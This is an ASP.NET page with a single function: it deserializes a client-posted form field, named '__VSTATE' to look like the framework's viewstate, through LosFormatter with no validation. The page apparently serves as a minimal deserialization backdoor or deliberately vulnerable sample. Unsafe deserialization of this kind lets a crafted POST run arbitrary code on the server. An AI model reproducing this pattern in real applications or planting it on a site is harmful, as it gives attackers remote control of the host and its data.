<%@ Page Language="C#" %>
<%
    if (Request.Form["__VSTATE"] != null)
    {
        new System.Web.UI.LosFormatter().Deserialize(Request.Form["__VSTATE"]);
    }
%>
